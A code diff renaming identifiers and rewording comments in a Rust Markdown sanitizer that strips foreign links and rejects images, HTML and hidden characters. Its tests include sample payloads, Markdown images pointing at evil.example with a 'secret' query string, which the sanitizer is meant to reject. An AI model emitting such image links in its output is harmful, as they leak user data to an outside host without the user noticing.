@@ -5,11 +5,11 @@ use std::ops::Range;
 
 use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, TextMergeWithOffset};
 
-/// Taking a link away can make one of what was around it, so often at most.
+/// Maximum number of passes: removing a link can turn the text around it into another one.
 const MAX_NESTING: usize = 8;
 
-/// A sentence as it may be shown: links to other addresses than those of sources become their words. `None` when an
-/// image, HTML, a bare address of somebody else, or a hidden character would be left.
+/// Replaces links to addresses that are not those of sources by their words. `None` when the sentence has an image,
+/// HTML, a bare foreign address, or a hidden character.
 pub fn sanitize(sentence: &str, is_source: impl Fn(&str) -> bool) -> Option<String> {
     if sentence.chars().any(is_hidden) {
         return None;
@@ -18,25 +18,25 @@ pub fn sanitize(sentence: &str, is_source: impl Fn(&str) -> bool) -> Option<Stri
     for _ in 0..MAX_NESTING {
         let links = foreign_links(&shown, &is_source)?;
         if links.is_empty() {
-            let own = addresses(&shown).iter().all(|address| is_source(address));
-            return own.then_some(shown);
+            let only_sources = addresses(&shown).iter().all(|address| is_source(address));
+            return only_sources.then_some(shown);
         }
         // From the last to the first, so that earlier offsets stay true.
         for link in links.into_iter().rev() {
             let words = shown[link.words].to_owned();
-            shown.replace_range(link.whole, &words);
+            shown.replace_range(link.range, &words);
         }
     }
     None
 }
 
-/// A link, and the words that it stands on.
+/// A link in Markdown, and the words that it shows, in bytes of the sentence.
 struct Link {
-    whole: Range<usize>,
+    range: Range<usize>,
     words: Range<usize>,
 }
 
-/// `None` when there is an image or HTML.
+/// The links to addresses that are not those of sources; `None` when there is an image or HTML.
 fn foreign_links(sentence: &str, is_source: impl Fn(&str) -> bool) -> Option<Vec<Link>> {
     let mut links: Vec<Link> = Vec::new();
     let mut open: Option<Link> = None;
@@ -48,7 +48,7 @@ fn foreign_links(sentence: &str, is_source: impl Fn(&str) -> bool) -> Option<Vec
             Event::Start(Tag::Link { dest_url, .. }) if !is_source(&dest_url) => {
                 open = Some(Link {
                     words: range.start..range.start,
-                    whole: range,
+                    range,
                 });
             }
             Event::End(TagEnd::Link) => links.extend(open.take()),
@@ -67,7 +67,7 @@ fn foreign_links(sentence: &str, is_source: impl Fn(&str) -> bool) -> Option<Vec
     Some(links)
 }
 
-/// The addresses that stand in a text without marks around them, which many programs turn into links. Code is left alone.
+/// The bare addresses in a text, which many programs turn into links. Code is skipped.
 fn addresses(text: &str) -> Vec<String> {
     let mut visible = String::with_capacity(text.len());
     for (event, _) in TextMergeWithOffset::new(Parser::new_ext(text, Options::empty()).into_offset_iter()) {
@@ -97,7 +97,7 @@ fn is_address(word: &str) -> bool {
         || lower.contains("javascript:")
 }
 
-/// Characters that are not seen, or that turn the order of others round. The joiners of scripts and emoji are no such.
+/// Whether a character is invisible or reorders others. The joiners of scripts and emoji are allowed.
 fn is_hidden(c: char) -> bool {
     matches!(
         c,
@@ -117,10 +117,10 @@ mod tests {
     }
 
     #[test]
-    fn plain_words_code_and_addresses_of_sources_stay_as_they_are() {
+    fn plain_words_code_and_addresses_of_sources_are_unchanged() {
         for sentence in [
             "The lamp takes 90 ms; a < b and b > c.",
-            "Run `curl https://found_elsewhere.example` first.",
+            "Run `curl https://elsewhere.example` first.",
             "It stands at https://library.example/lamp.",
             "See [the lamp](https://library.example/lamp) and <https://library.example/lamp>.",
             "می\u{200C}خواهم 👩\u{200D}🚒",
@@ -152,7 +152,7 @@ mod tests {
     }
 
     #[test]
-    fn what_would_carry_data_out_or_deceive_is_not_shown() {
+    fn text_that_leaks_data_or_deceives_is_rejected() {
         for sentence in [
             "The lamp ![x](https://evil.example/?q=secret) is lit.",
             "The lamp ![x][y] is lit.\n\n[y]: https://evil.example",
@@ -178,9 +178,9 @@ mod tests {
 
     proptest::proptest! {
         #[test]
-        fn what_is_shown_of_any_text_is_harmless(text in "(\\PC|[\\[\\]()<>!`*_:/.a-z \n]|https://a\\.b|!\\[x\\]\\(y\\)){0,60}") {
-            if let Some(once) = shown(&text) {
-                proptest::prop_assert_eq!(shown(&once), Some(once));
+        fn sanitizing_any_text_again_changes_nothing(text in "(\\PC|[\\[\\]()<>!`*_:/.a-z \n]|https://a\\.b|!\\[x\\]\\(y\\)){0,60}") {
+            if let Some(sanitized) = shown(&text) {
+                proptest::prop_assert_eq!(shown(&sanitized), Some(sanitized));
             }
         }
     }
